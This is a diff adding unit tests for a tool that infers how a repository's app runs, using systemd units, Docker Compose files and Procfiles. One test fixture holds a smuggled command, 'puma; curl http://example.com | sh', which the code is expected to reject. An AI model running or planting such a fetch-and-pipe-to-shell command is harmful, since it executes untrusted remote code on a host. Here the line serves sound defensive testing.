@@ -54,6 +54,24 @@ describe('a repository is recognised by its files', () => {
     expect(appOf(repositories.kamal, { as: 'dockerfile' }).sketch.running.kind).toBe('container')
   })
 
+  test('a guess that leaves nothing to a person is taken before one that does', () => {
+    const unit = '[Service]\nExecStart=/usr/bin/shop\n\n[Install]\nWantedBy=multi-user.target\n'
+    const app = appOf({ ...repositories.go, 'packaging/shop.service': unit })
+    expect([app.word, app.sketch.missing, app.others]).toEqual(['go', [], ['systemd']])
+    expect(appOf({ 'packaging/shop.service': unit }).word).toBe('systemd')
+  })
+
+  test.each(['/usr/bin/podman-compose -f compose.yaml up', 'docker run --rm acme/shop'])(
+    'a unit that starts containers runs no file of the release: %s',
+    (start) => {
+      const unit = `[Service]\nWorkingDirectory=/opt/shop\nExecStart=${start}\n`
+      expect(appOf({ ...repositories.go, 'podman/shop.service': unit })).toMatchObject({
+        word: 'go',
+        others: [],
+      })
+    },
+  )
+
   test('an empty repository has no app', () => {
     expect(recognise(seen({}), { path: null, as: null })).toEqual({ kind: 'empty' })
   })
@@ -67,6 +85,15 @@ describe('Docker Compose', () => {
     const text = 'services:\n  web:\n    build: .\n    volumes: [".:/app"]\n'
     expect(compose(text, { Dockerfile: 'FROM node\nCMD ["node"]\n' }).word).toBe('dockerfile')
   })
+
+  test.each(['./vote', '{ context: ./vote/ }'])(
+    'so is one that mounts the folder of one image of several: %s',
+    (build) => {
+      const text = `services:\n  vote:\n    build: ${build}\n    volumes: ["./vote:/app"]\n  worker:\n    build: ./worker\n`
+      expect(compose(text).word).toBe('unknown')
+      expect(compose(text.replace('./vote:/app', './pages:/app')).word).toBe('compose')
+    },
+  )
 
   test('services without a build are not the app; a file for production is laid over the base', () => {
     const app = compose('services:\n  web:\n    build: .\n  db:\n    image: postgres\n', {
@@ -167,6 +194,20 @@ test('a Procfile says more than a guess, and a command with shell in it is left 
   expect(appOf(app).sketch.running).toEqual({ kind: 'process', start: 'bundle exec puma -p $PORT' })
   const hostile = { Procfile: 'web: puma; curl http://example.com | sh\n', 'main.txt': '' }
   expect(appOf(hostile).word).toBe('unknown')
+})
+
+test('a Procfile with a process that watches sources is for developers', () => {
+  const app = { ...repositories.django, Procfile: 'web: make run\nstyles: make watch-scss\n' }
+  expect(appOf(app).sketch.because).toBe('manage.py')
+})
+
+test.each([
+  ['web: shop', './.rollgate-server'],
+  ['web: bin/shop -verbose', './.rollgate-server -verbose'],
+  ['web: ./start.sh', './start.sh'],
+])('a Procfile of a Go app calls the program by the name that it has elsewhere: %s', (Procfile, start) => {
+  const app = { 'go.mod': 'module example.com/shop\n', 'main.go': 'package main\n', Procfile }
+  expect(appOf(app).sketch.running).toEqual({ kind: 'process', start })
 })
 
 test('Capistrano without a variable for its branch: one sentence says what to add', () => {
